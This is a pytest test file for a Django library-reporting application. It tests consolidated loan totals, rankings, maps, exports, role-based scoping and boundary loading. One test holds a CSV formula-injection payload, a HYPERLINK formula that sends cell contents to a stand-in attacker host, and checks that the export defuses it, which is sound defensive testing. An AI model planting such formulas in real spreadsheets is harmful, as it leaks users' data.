"""The consolidation of any set of libraries, for whoever may see it: totals with
coverage, last year, the time series, the ranking, the map, the exports; and the
municipal boundaries behind the map.

The network of these tests, by hand (loans_total of accepted reports):

    municipality   library                          type         place    2024    2025
    Казанлък       library  (НЧ „Светлина“)          chitalishte  village  4 000   5 200
    Казанлък       town_library (municipal)          municipal    town    18 000  20 000
    Чирпан         other_library (НЧ „Пробуда“)      chitalishte  village  draft   3 000 (estimated)
    Чирпан         town_chitalishte                  chitalishte  town     —       draft

So the chitalishte libraries' 2025 total is 5 200 + 3 000 = 8 200 from 2 of their 3
reports, and 4 000 (1 of 3) the year before.
"""

from __future__ import annotations

import csv
import datetime
import io
import json
from decimal import Decimal
from types import SimpleNamespace

import openpyxl
import pytest
from django.core.exceptions import PermissionDenied
from django.core.management import CommandError, call_command
from django.utils import translation

from methodica.core.models import AuditEntry
from methodica.libraries import services as register
from methodica.libraries.boundaries import MAX_POSITIONS, read_boundaries
from methodica.libraries.models import Library, Municipality, Settlement
from methodica.reporting import services
from methodica.reporting.analysis import choose, measures, rank_libraries
from methodica.reporting.consolidation import (
    LibrarySet,
    consolidate,
    district_series,
)
from methodica.reporting.models import Indicator, Report
from tests.factories import LibraryFactory, MunicipalityFactory, SettlementFactory
from tests.querycount import count_queries
from tests.report_data import cells


class Explained(dict):
    """Every warning explained: these tests are about totals, not about checks."""

    def get(self, key, default=None):
        return "Checked with the library by phone."


def loans(total: int, population: int = 850) -> dict[str, str]:
    """A consistent report whose loans are ``total`` (the parts add up)."""
    return {
        "loans_total": str(total),
        "loans_books": str(total - 500),
        "loans_periodicals": "400",
        "loans_other": "100",
        "loans_children": str(total // 4),
        "population_served": str(population),
    }


def accept(report, actor, overrides, marks=None):
    report.refresh_from_db()
    services.save_report(
        report=report,
        actor=actor,
        cells=cells(overrides, marks),
        revision=report.revision,
    )
    services.submit_report(report=report, actor=actor, justifications=Explained())
    services.accept_report(report=report, actor=actor)


def draft(report, actor, overrides):
    services.save_report(
        report=report, actor=actor, cells=cells(overrides), revision=report.revision
    )


def open_year(year, district_admin, district):
    form = services.create_default_form(
        actor=district_admin, district=district, year=year
    )
    return services.open_campaign(
        actor=district_admin, form=form, deadline=datetime.date(2099, 1, 31)
    )


@pytest.fixture
def network(
    district_admin,
    methodologist,
    district,
    municipality,
    other_municipality,
    library,
    other_library,
):
    town = SettlementFactory(
        municipality=municipality, name="Казанлък", kind=Settlement.Kind.TOWN
    )
    town_library = LibraryFactory(
        settlement=town,
        name="Общинска библиотека „Искра“",
        library_type=Library.Type.MUNICIPAL,
    )
    chirpan = SettlementFactory(
        municipality=other_municipality, name="Чирпан", kind=Settlement.Kind.TOWN
    )
    town_chitalishte = LibraryFactory(
        settlement=chirpan, name="НЧ „Светлина – 1873“ Чирпан"
    )
    before = open_year(2024, district_admin, district)
    campaign = open_year(2025, district_admin, district)

    def report(c, lib):
        return Report.objects.get(campaign=c, library=lib)

    accept(report(before, library), methodologist, loans(4000))
    accept(report(before, town_library), methodologist, loans(18000, 10000))
    draft(report(before, other_library), methodologist, loans(2000))
    accept(report(campaign, library), methodologist, loans(5200))
    accept(report(campaign, town_library), methodologist, loans(20000, 10000))
    accept(
        report(campaign, other_library),
        methodologist,
        loans(3000),
        marks={"loans_total": "estimated"},
    )
    draft(report(campaign, town_chitalishte), methodologist, loans(900))
    return SimpleNamespace(
        campaign=campaign,
        before=before,
        library=library,
        other_library=other_library,
        town_library=town_library,
        town_chitalishte=town_chitalishte,
    )


def url(network, suffix="/", query=""):
    return f"/reports/campaigns/{network.campaign.pk}/consolidation{suffix}" + (
        f"?{query}" if query else ""
    )


def csv_rows(response):
    text = response.content.decode("utf-8-sig")
    return {row[0]: row for row in csv.reader(io.StringIO(text))}


# --- the set: totals, coverage, last year ------------------------------------------


@pytest.mark.django_db
def test_the_chitalishte_libraries_total_their_own_reports_with_their_coverage(
    network, municipality, other_municipality
):
    chitalishta = LibrarySet(library_type=Library.Type.CHITALISHTE)
    result = consolidate(network.campaign, chitalishta)
    total = result.district("loans_total")
    assert (total.value, total.coverage) == (Decimal(8200), "2/3")  # estimate counts
    assert result.previous["loans_total"].value == Decimal(4000)
    assert result.previous["loans_total"].coverage == "1/3"
    assert result.change("loans_total") == Decimal(105)
    assert result.total(municipality.pk, "loans_total").coverage == "1/1"
    assert result.total(other_municipality.pk, "loans_total").value == 3000
    assert result.total(other_municipality.pk, "loans_total").coverage == "1/2"
    assert (result.reports_accepted, result.reports_expected) == (2, 3)
    assert [r.library for r in result.missing] == [network.town_chitalishte]
    # The whole district, as existing callers get it.
    everything = consolidate(network.campaign)
    assert everything.district("loans_total").value == 28200
    assert everything.district("loans_total").coverage == "3/4"


@pytest.mark.django_db
def test_towns_and_a_municipality_are_sets_too(network, other_municipality):
    towns = consolidate(network.campaign, LibrarySet(settlement_kind="town"))
    assert towns.district("loans_total").value == 20000
    assert towns.district("loans_total").coverage == "1/2"
    chirpan = consolidate(
        network.campaign,
        LibrarySet(
            library_type="chitalishte", municipality_ids=(other_municipality.pk,)
        ),
    )
    assert chirpan.municipalities == [other_municipality]
    assert (chirpan.district("loans_total").value, chirpan.reports_expected) == (
        3000,
        2,
    )


@pytest.mark.django_db
def test_the_time_series_follows_the_set(network, district):
    series = district_series(district.pk, LibrarySet(library_type="chitalishte"))
    assert series["loans_total"] == [(2024, Decimal(4000)), (2025, Decimal(8200))]
    assert district_series(district.pk)["loans_total"] == [
        (2024, Decimal(22000)),
        (2025, Decimal(28200)),
    ]


@pytest.mark.django_db
def test_the_page_and_every_export_take_the_same_set(
    client_for, methodologist, network
):
    client = client_for(methodologist)
    page = client.get(url(network, query="type=chitalishte"))
    assert page.status_code == 200
    result = page.context["result"]
    assert result.district("loans_total").value == 8200
    assert (
        '<td>8\xa0200 <span class="small text-body-secondary">2/3</span>'
        in page.content.decode()
    )
    rows = csv_rows(client.get(url(network, ".csv", "type=chitalishte")))
    assert rows["loans_total"][3:] == ["8200", "2", "3", "4000", "105.0"]
    workbook = openpyxl.load_workbook(
        io.BytesIO(client.get(url(network, ".xlsx", "type=chitalishte")).content),
        read_only=True,
    )
    assert workbook.sheetnames[1:3] == ["Казанлък", "Чирпан"]
    sheet = {r[0]: r for r in workbook.worksheets[0].iter_rows(values_only=True)}
    assert sheet["loans_total"][3:6] == (8200, 2, 3)
    geo = client.get(url(network, "/map.geojson", "type=chitalishte&shade=loans_total"))
    assert geo.status_code == 200  # no outlines yet: no features, but the same set
    assert geo.json()["features"] == []


@pytest.mark.django_db
def test_the_csv_export_defuses_text_a_spreadsheet_would_run(
    client_for, methodologist, network
):
    Indicator.objects.filter(form=network.campaign.form, code="loans_total").update(
        names={"bg": '=HYPERLINK("http://evil.example/?x="&A1,"Кликни")'},
        unit="@SUM(A1)",
    )
    response = client_for(methodologist).get(url(network, ".csv"))
    assert response["Content-Type"].startswith("text/csv")
    row = csv_rows(response)["loans_total"]
    assert row[1].startswith("'=HYPERLINK") and row[2] == "'@SUM(A1)"
    assert row[3] == "28200"


# --- who sees what -----------------------------------------------------------------


@pytest.mark.django_db
def test_a_municipal_methodologist_consolidates_their_own_municipality(
    client_for, municipal_methodologist, network, municipality
):
    client = client_for(municipal_methodologist)
    response = client.get(url(network))
    assert response.status_code == 200
    result = response.context["result"]
    assert result.municipalities == [municipality]
    assert result.district("loans_total").value == 25200
    assert result.district("loans_total").coverage == "2/2"
    assert result.previous["loans_total"].value == 22000
    page = response.content.decode()
    assert "Чирпан" not in page and network.other_library.name not in page
    assert response.context["series"]["indicators"][0]["code"]
    series = {i["code"]: i["points"] for i in response.context["series"]["indicators"]}
    assert series["loans_total"] == [[2024, 22000.0], [2025, 25200.0]]


@pytest.mark.django_db
@pytest.mark.parametrize(
    "query",
    [
        "municipality={other}",
        "municipality={other}&municipality={own}",
        "municipality={other}&type=chitalishte",
        "municipality=abc&kind=village",
    ],
)
def test_no_parameter_gets_a_municipal_methodologist_another_municipalitys_figures(
    client_for,
    municipal_methodologist,
    network,
    municipality,
    other_municipality,
    query,
):
    query = query.format(other=other_municipality.pk, own=municipality.pk)
    client = client_for(municipal_methodologist)
    result = client.get(url(network, query=query)).context["result"]
    assert result.municipalities == [municipality]
    assert result.total(other_municipality.pk, "loans_total").value is None
    ranked = [
        r.library_id
        for r in client.get(url(network, query=query)).context["ranking"].rows
    ]
    assert network.other_library.pk not in ranked
    assert set(ranked) <= {network.library.pk, network.town_library.pk}
    csv_total = csv_rows(client.get(url(network, ".csv", query)))["loans_total"][3]
    assert Decimal(csv_total) <= 25200
    workbook = openpyxl.load_workbook(
        io.BytesIO(client.get(url(network, ".xlsx", query)).content), read_only=True
    )
    assert "Чирпан" not in workbook.sheetnames
    set_outlines(municipality, other_municipality)
    features = client.get(url(network, "/map.geojson", query)).json()["features"]
    assert [f["properties"]["id"] for f in features] == [municipality.pk]


@pytest.mark.django_db
def test_the_board_links_a_municipal_methodologist_to_the_consolidation(
    client_for, municipal_methodologist, network
):
    page = client_for(municipal_methodologist).get(
        f"/reports/campaigns/{network.campaign.pk}/"
    )
    assert url(network) in page.content.decode()


@pytest.mark.django_db
@pytest.mark.parametrize("suffix", ["/", ".csv", ".xlsx", "/map.geojson"])
def test_reporters_and_outsiders_get_nothing(
    client_for, reporter, outsider, network, suffix
):
    assert client_for(reporter).get(url(network, suffix)).status_code == 404
    assert client_for(outsider).get(url(network, suffix)).status_code == 404


@pytest.mark.django_db
def test_signing_in_comes_first(client, network):
    response = client.get(url(network, ".csv"))
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


# --- the ranking -------------------------------------------------------------------


@pytest.mark.django_db
def test_libraries_rank_by_an_indicator_highest_first(network):
    options = measures(network.campaign.form.indicators.all())
    ranking = rank_libraries(
        network.campaign, LibrarySet(), choose(options, "loans_total", ""), top=None
    )
    assert [(r.rank, r.library_id, r.value) for r in ranking.rows] == [
        (1, network.town_library.pk, 20000),
        (2, network.library.pk, 5200),
        (3, network.other_library.pk, 3000),
    ]
    top_two = rank_libraries(
        network.campaign, LibrarySet(), choose(options, "loans_total", ""), top=2
    )
    assert len(top_two.rows) == 2 and top_two.ranked == 3


@pytest.mark.django_db
def test_libraries_rank_by_a_performance_indicator_of_their_own_values(network):
    options = measures(network.campaign.form.indicators.all())
    per_capita = choose(options, "p:loans_per_capita", "")
    ranking = rank_libraries(network.campaign, LibrarySet(), per_capita, top=None)
    # 5200 / 850 = 6.12; 3000 / 850 = 3.53; 20000 / 10000 = 2.00
    assert [(r.library_id, r.value) for r in ranking.rows] == [
        (network.library.pk, Decimal("6.12")),
        (network.other_library.pk, Decimal("3.53")),
        (network.town_library.pk, Decimal("2.00")),
    ]


@pytest.mark.django_db
def test_the_ranking_table_lists_the_set_in_order(client_for, methodologist, network):
    response = client_for(methodologist).get(
        url(network, query="type=chitalishte&rank=loans_total&top=all")
    )
    ranking = response.context["ranking"]
    assert [r.library_id for r in ranking.rows] == [
        network.library.pk,
        network.other_library.pk,
    ]
    page = response.content.decode()
    table = page[page.index('id="ranking-table"') :]
    assert table.index(network.library.name) < table.index(network.other_library.name)
    assert network.town_library.name not in table[: table.index("</table>")]
    chart = json.loads(
        page.split('id="ranking-data" type="application/json">')[1].split("</script>")[
            0
        ]
    )
    assert chart["values"] == [5200.0, 3000.0]
    assert response.context["ranking_pending"] == 1  # the town chitalishte's draft
    assert "5\xa0200</td>" in table  # thousands grouped, as Bulgarian writes them


@pytest.mark.django_db
def test_a_library_without_the_figure_is_counted_not_ranked(
    network, methodologist, district_admin
):
    report = Report.objects.get(campaign=network.campaign, library=network.library)
    services.reopen_report(report=report, actor=district_admin, reason="Поправка")
    accept(
        report,
        methodologist,
        {**loans(5200), "loans_total": ""},
        marks={"loans_total": "unknown"},
    )
    ranking = rank_libraries(
        network.campaign,
        LibrarySet(),
        choose(measures(network.campaign.form.indicators.all()), "loans_total", ""),
        top=None,
    )
    assert network.library.pk not in [r.library_id for r in ranking.rows]
    assert (ranking.ranked, ranking.without_value) == (2, 1)


# --- the map -----------------------------------------------------------------------


def square(lon: float, lat: float, size: float = 0.1) -> dict:
    ring = [
        [lon, lat],
        [lon + size, lat],
        [lon + size, lat + size],
        [lon, lat + size],
        [lon, lat],
    ]
    return {"type": "Polygon", "coordinates": [ring]}


def collection(*features) -> bytes:
    return json.dumps(
        {
            "type": "FeatureCollection",
            "features": [
                {"type": "Feature", "properties": {"code": code}, "geometry": geometry}
                for code, geometry in features
            ],
        }
    ).encode()


def set_outlines(*municipalities):
    for n, m in enumerate(municipalities):
        Municipality.objects.filter(pk=m.pk).update(boundary=square(25 + n * 0.1, 42))


@pytest.mark.django_db
def test_the_map_shades_each_municipality_by_its_ratio(
    client_for, methodologist, network, municipality, other_municipality
):
    set_outlines(municipality, other_municipality)
    data = (
        client_for(methodologist)
        .get(url(network, "/map.geojson", "shade=p:loans_per_capita"))
        .json()
    )
    by_name = {f["properties"]["name"]: f for f in data["features"]}
    kazanlak, chirpan = by_name["Казанлък"], by_name["Чирпан"]
    # Казанлък: (5200 + 20000) / (850 + 10000) = 2.32; Чирпан: 3000 / 850 = 3.53
    assert kazanlak["properties"]["value"] == 2.32
    assert chirpan["properties"]["value"] == 3.53
    assert (kazanlak["properties"]["reported"], kazanlak["properties"]["expected"]) == (
        2,
        2,
    )
    assert (chirpan["properties"]["reported"], chirpan["properties"]["expected"]) == (
        1,
        2,
    )
    assert kazanlak["properties"]["shade"] == 0 and chirpan["properties"]["shade"] == 1
    assert [s["colour"] for s in data["scale"]] == [
        kazanlak["properties"]["colour"],
        chirpan["properties"]["colour"],
    ]
    assert kazanlak["geometry"] == square(25, 42)
    assert data["measure"]["key"] == "p:loans_per_capita"


@pytest.mark.django_db
def test_the_map_has_its_figures_in_a_table_and_leaves_out_what_has_no_outline(
    client_for, methodologist, network, municipality, other_municipality
):
    set_outlines(municipality)
    client = client_for(methodologist)
    data = client.get(url(network, "/map.geojson", "shade=loans_total")).json()
    assert [f["properties"]["id"] for f in data["features"]] == [municipality.pk]
    page = client.get(url(network, query="shade=loans_total")).content.decode()
    table = page[page.index('id="map-table"') :].split("</table>")[0]
    assert "Казанлък" in table and "Чирпан" in table and "3/4" not in table
    assert "25\xa0200" in table and "1/2" in table
    assert "schematic" in page or "схематич" in page


# --- a constant number of queries ----------------------------------------------------


@pytest.mark.django_db
def test_the_page_and_the_map_run_the_same_queries_for_a_bigger_network(
    client_for, methodologist, network, district, municipality
):
    set_outlines(municipality)
    client = client_for(methodologist)
    client.get(url(network))  # warm the session and the content types

    def counts():
        found = []
        for suffix in ["/", "/map.geojson", ".csv"]:
            with count_queries() as queries:
                response = client.get(url(network, suffix, "type=chitalishte"))
                assert response.status_code == 200
            found.append(len(queries))
        return found

    small = counts()
    for n in range(3):
        place = MunicipalityFactory(district=district, name=f"Община {n}")
        Municipality.objects.filter(pk=place.pk).update(boundary=square(26 + n, 42))
        for _ in range(2):
            lib = LibraryFactory(settlement=SettlementFactory(municipality=place))
            report = Report.objects.create(campaign=network.campaign, library=lib)
            accept(report, methodologist, loans(1000 + n))
    big = counts()
    page = client.get(url(network, query="type=chitalishte"))
    assert page.context["result"].reports_expected == 9
    assert len(page.context["ranking"].rows) == 8
    assert big == small and small[0] <= 30, (small, big)


# --- boundaries --------------------------------------------------------------------


@pytest.mark.django_db
def test_an_administrator_loads_boundaries_and_each_change_is_audited(
    district_admin, district, municipality, other_municipality
):
    data = collection(
        (municipality.code, square(25.3, 42.6)),
        (other_municipality.code, square(25.3, 42.2)),
    )
    changed = register.load_boundaries(
        actor=district_admin, district=district, data=data
    )
    municipality.refresh_from_db()
    assert changed == 2 and municipality.boundary == square(25.3, 42.6)
    entry = AuditEntry.objects.get(
        action="municipality.boundary_changed", object_id=str(municipality.pk)
    )
    assert entry.changes["boundary"]["before"] is None
    assert entry.changes["boundary"]["after"]["positions"] == 5
    # The same file again changes nothing.
    assert (
        register.load_boundaries(actor=district_admin, district=district, data=data)
        == 0
    )
    assert (
        AuditEntry.objects.filter(action="municipality.boundary_changed").count() == 2
    )


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"not json", "not GeoJSON"),
        (b'{"type": "Feature"}', "FeatureCollection"),
        ("unknown", "no municipality of the district has the code SZR99"),
        ("open ring", "does not end where it starts"),
        ("point", "is a Point"),
        ("twice", "appears twice"),
        ("far away", "outside longitude"),
    ],
)
def test_a_bad_boundaries_file_changes_nothing_and_says_why(
    district_admin, district, municipality, other_municipality, data, expected
):
    good = (municipality.code, square(25.3, 42.6))
    broken = square(25.3, 42.2)
    broken["coordinates"][0][-1] = [25.0, 42.0]
    files = {
        "unknown": collection(good, ("SZR99", square(25, 42))),
        "open ring": collection(good, (other_municipality.code, broken)),
        "point": collection(
            good, (other_municipality.code, {"type": "Point", "coordinates": [25, 42]})
        ),
        "twice": collection(good, good),
        "far away": collection(good, (other_municipality.code, square(250, 42))),
    }
    with (
        translation.override("en"),
        pytest.raises(register.BoundariesRefused) as refused,
    ):
        register.load_boundaries(
            actor=district_admin,
            district=district,
            data=files.get(data, data) if isinstance(data, str) else data,
        )
    assert expected in " ".join(refused.value.problems)
    assert not Municipality.objects.filter(boundary__isnull=False).exists()
    assert not AuditEntry.objects.filter(
        action="municipality.boundary_changed"
    ).exists()


def test_a_geometry_too_detailed_for_a_map_is_refused():
    ring = [[25 + i / 1e4, 42.0] for i in range(MAX_POSITIONS)] + [[25.0, 42.0]]
    with translation.override("en"), pytest.raises(Exception, match="simplify"):
        read_boundaries(
            json.dumps(
                {
                    "type": "FeatureCollection",
                    "features": [
                        {
                            "type": "Feature",
                            "properties": {"code": "M1"},
                            "geometry": {"type": "Polygon", "coordinates": [ring]},
                        }
                    ],
                }
            ).encode(),
            {"M1"},
        )


@pytest.mark.django_db
def test_only_an_administrator_may_load_boundaries(
    methodologist, district, municipality
):
    with pytest.raises(PermissionDenied):
        register.load_boundaries(
            actor=methodologist,
            district=district,
            data=collection((municipality.code, square(25, 42))),
        )


@pytest.mark.django_db
def test_the_command_loads_a_file_all_or_nothing(
    tmp_path, district_admin, municipality, other_municipality
):
    good = tmp_path / "good.geojson"
    good.write_bytes(collection((municipality.code, square(25, 42))))
    out = io.StringIO()
    call_command("load_boundaries", str(good), user="admin", stdout=out)
    assert "1" in out.getvalue()
    bad = tmp_path / "bad.geojson"
    bad.write_bytes(
        collection((other_municipality.code, square(25, 43)), ("NOPE", square(25, 42)))
    )
    err = io.StringIO()
    with pytest.raises(CommandError):
        call_command("load_boundaries", str(bad), user="admin", stderr=err)
    assert "NOPE" in err.getvalue()
    other_municipality.refresh_from_db()
    assert other_municipality.boundary is None


def test_the_demo_boundaries_cover_every_municipality_and_hold_its_libraries():
    from shapely.geometry import Point, shape  # a dev dependency, as in the script

    from methodica.libraries.demo import build_plan
    from methodica.libraries.demo.data import MUNICIPALITIES
    from methodica.libraries.demo.load import BOUNDARIES

    codes = {m.code for m in MUNICIPALITIES}
    outlines = {
        b.code: shape(b.geometry)
        for b in read_boundaries(BOUNDARIES.read_bytes(), codes)
    }
    assert set(outlines) == codes
    assert all(outline.is_valid for outline in outlines.values())
    municipality_of = {s.ekatte: m.code for m in MUNICIPALITIES for s in m.settlements}
    for planned in build_plan():
        where = Point(
            float(planned.fields["longitude"]), float(planned.fields["latitude"])
        )
        assert outlines[municipality_of[planned.ekatte]].covers(where), planned.fields


@pytest.mark.django_db
def test_the_pdf_summary_takes_the_set_and_the_scope_too(
    client_for, municipal_methodologist, network, other_municipality
):
    from pypdf import PdfReader

    response = client_for(municipal_methodologist).get(
        url(network, ".pdf", f"municipality={other_municipality.pk}")
    )
    assert response.status_code == 200
    text = " ".join(
        page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages
    )
    assert "Казанлък" in text and "Чирпан" not in text


@pytest.mark.django_db
def test_a_form_without_numbers_has_a_consolidation_but_no_ranking_or_map(
    client_for, methodologist, campaign
):
    # A form of text answers only (say, a survey of services): nothing to add up.
    Indicator.objects.filter(form=campaign.form).exclude(
        value_type=Indicator.ValueType.TEXT
    ).update(value_type=Indicator.ValueType.TEXT)
    client = client_for(methodologist)
    page = client.get(f"/reports/campaigns/{campaign.pk}/consolidation/")
    assert page.status_code == 200
    assert 'id="ranking"' not in page.content.decode()
    shaded = client.get(f"/reports/campaigns/{campaign.pk}/consolidation/map.geojson")
    assert shaded.status_code == 404
